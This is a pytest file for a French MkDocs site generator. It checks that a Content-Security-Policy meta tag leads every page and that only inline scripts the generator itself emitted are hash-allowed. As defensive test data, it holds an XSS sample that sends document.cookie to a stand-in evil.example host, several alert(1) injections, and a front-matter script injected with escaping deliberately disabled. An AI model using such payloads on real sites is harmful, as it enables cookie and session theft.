"""CSP of the built site (issue 15, item 2): first element of ``<head>``, hashes only for the inline
scripts the generator emitted itself — Material's, rendered from Material's templates, and the
Leaflet set-up each map producer registered — never for a script that merely starts like one."""

from __future__ import annotations

import os
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from mkdocs.config import load_config
from theme_payloads import BYPASS

from generator.mkdocs.csp import CHARSET_WINDOW, CspRefusal, UnknownInlineScript, apply_csp, csp_page, script_hash
from generator.mkdocs.theme_scripts import material_scripts, theme_scripts
from generator.site.inline_scripts import executable_inline_scripts
from tests.conftest import ROOT, copy_content

CSP = "content-security-policy"


@pytest.fixture(scope="module")
def config() -> Any:
    return load_config(str(ROOT / "mkdocs.yml"))


class _HeadOrder(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.in_head = False
        self.first: tuple[str, dict[str, str | None]] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "head":
            self.in_head = True
        elif self.in_head and self.first is None:
            self.first = (tag, dict(attrs))


def _first_in_head(html: str) -> tuple[str, dict[str, str | None]] | None:
    parser = _HeadOrder()
    parser.feed(html)
    return parser.first


def test_csp_is_the_first_element_of_head_everywhere(built_site: Path) -> None:
    pages = sorted(built_site.rglob("*.html"))
    assert len(pages) > 20
    for path in pages:
        html = path.read_text(encoding="utf-8")
        first = _first_in_head(html)
        assert first is not None and first[0] == "meta", path
        assert (first[1].get("http-equiv") or "").lower() == CSP, f"{path}: {first}"
        assert len(html[:html.lower().index("charset=")].encode()) < CHARSET_WINDOW, f"{path}: encodage trop loin"


def test_every_inline_script_of_the_site_is_one_we_emitted(built_site: Path, config: Any) -> None:
    maps = {"carte/carte.html", "couverture/couverture.html"}
    for path in sorted(built_site.rglob("*.html")):
        name = path.relative_to(built_site).as_posix()
        bodies = executable_inline_scripts(path.read_text(encoding="utf-8"))
        if name in maps:
            assert bodies and not any(body in material_scripts(".") for body in bodies), name
            continue
        assert set(bodies) <= theme_scripts(name, config), name


def test_material_bodies_follow_the_page_depth(config: Any) -> None:
    home, deep = theme_scripts("index.html", config), theme_scripts("annuaire/x/index.html", config)
    assert any(b.startswith('__md_scope=new URL(".",') for b in home)
    assert any(b.startswith('__md_scope=new URL("../..",') for b in deep)
    assert not any(b.startswith('__md_scope=new URL("../..",') for b in home)
    assert any(b.startswith('__md_scope=new URL("/",') for b in theme_scripts("404.html", config))


def _page(*scripts: str) -> str:
    return ('<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src \'self\'">'
            '<meta charset="utf-8"></head><body>' + "".join(f"<script>{s}</script>" for s in scripts) + "</body></html>")


def test_a_look_alike_of_an_allowed_script_is_refused(config: Any) -> None:
    allowed = theme_scripts("index.html", config) | {"var map_0001 = L.map('m');"}
    for body in sorted(allowed):
        written = csp_page(_page(body), "index.html", allowed)
        assert script_hash(body) in written  # the exact body: hashed
        for evil in (body + ";fetch('https://evil.example/'+document.cookie)", body[:-1], " " + body):
            with pytest.raises(UnknownInlineScript, match="origine inconnue"):
                csp_page(_page(body, evil), "index.html", allowed)
    with pytest.raises(UnknownInlineScript):
        csp_page(_page('var palette=__md_get("__palette");alert(1)'), "index.html", allowed)


def test_the_encoding_declaration_stays_within_the_first_kilobyte() -> None:
    many = [f"var a{i}=1;" for i in range(40)]
    with pytest.raises(CspRefusal, match="1024"):
        csp_page(_page(*many), "x.html", set(many))


def test_a_tampered_map_document_is_refused(built_site: Path, tmp_path: Path, config: Any) -> None:
    html = (built_site / "carte" / "carte.html").read_text(encoding="utf-8")
    registered = frozenset(executable_inline_scripts(html))
    (tmp_path / "carte.html").write_text(html, encoding="utf-8")
    assert apply_csp(tmp_path, ["carte.html"], lambda name: registered) == 0  # already right
    prefix = next(b for b in registered if b.lstrip().startswith("var map_"))
    (tmp_path / "carte.html").write_text(html.replace("</body>", f"<script>{prefix}alert(1)</script></body>"),
                                         encoding="utf-8")
    with pytest.raises(UnknownInlineScript):
        apply_csp(tmp_path, ["carte.html"], lambda name: registered)


def test_map_producers_register_their_scripts() -> None:
    from generator.site.maps import map_output

    output = map_output("<html><head></head><body><script>var map_1 = 1;</script>"
                        '<script type="application/json">{}</script><script src="a.js"></script></body></html>')
    assert output.scripts == frozenset({"var map_1 = 1;"})


@pytest.mark.construction
def test_the_build_refuses_a_script_that_slipped_past_escaping(tmp_path: Path) -> None:
    """Escaping switched off on purpose, and a script that starts like Material's in ``subtitle``:
    the CSP step stops the build with its French message, nothing is published."""
    root = copy_content(tmp_path)
    page = root / "content" / "contribuer.md"
    body = page.read_text(encoding="utf-8").split("---\n", 2)[2]
    page.write_text('---\ntitle: Contribuer\nsubtitle: "<script>var palette=__md_get(\\"__palette\\");'
                    'alert(1)</script>"\n---\n' + body, encoding="utf-8")
    unescaped = BYPASS.replace("s.check_written_meta", "import generator.mkdocs.plugin as g; "
                               "g.escape_theme_texts = lambda page: None; s.check_written_meta", 1)
    env = {**os.environ, "SOURCE_DATE_EPOCH": "0", "NO_MKDOCS_2_WARNING": "1"}
    result = subprocess.run([sys.executable, "-c", unescaped, "build", "--strict", "--site-dir", str(root / "out")],
                            cwd=root, env=env, capture_output=True, text=True)
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "Construction refusée" in output and "script en ligne d'origine inconnue" in output, output
    assert "Traceback" not in output
